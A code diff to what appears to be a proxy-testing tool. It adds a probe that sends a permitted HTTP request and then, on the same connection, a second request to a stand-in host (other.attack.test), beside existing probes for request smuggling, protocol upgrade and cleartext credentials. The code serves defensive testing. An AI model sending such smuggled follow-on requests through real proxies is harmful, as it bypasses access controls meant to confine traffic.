@@ -182,6 +182,10 @@ def probes(to: Targets) -> Probes:
         good + "Content-Length: 0",
         behind=f"GET {OTHER}/{{mark}}{HTTP}other.attack.test:8080\r\n\r\n",
     )
+    made["second-request-later"] = (
+        "a second request once the first was answered",
+        lambda: _later(to, "second-request-later"),
+    )
     plain("upgrade", "a change of protocol", good + "Connection: Upgrade\r\nUpgrade: {mark}")
     plain(
         "password-to-host", "a password in clear to the host", good + "Authorization: Basic {mark}"
@@ -301,6 +305,18 @@ def send(to: Targets, probe: str, head: str | bytes, behind: str | bytes) -> str
         with suppress(BrokenPipeError, ConnectionResetError):
             one.sendall(data)
         return _said(_answer(one))
+
+
+def _later(to: Targets, probe: str) -> str:
+    """Sends a request, waits for its answer, and sends one for another host behind it."""
+    with _to_proxy(to) as one:
+        one.sendall(f"GET {_GOOD}/{HTTP}{ALLOWED}:8080\r\n\r\n".encode())
+        answer = _answer(one)
+        with suppress(BrokenPipeError, ConnectionResetError):
+            one.sendall(f"GET /{to.mark(probe)}{HTTP}other.attack.test:8080\r\n\r\n".encode())
+            one.settimeout(3)
+            _answer(one)
+    return _said(answer)
 
 
 def _greeting(to: Targets, probe: str, *, named: bool) -> str:
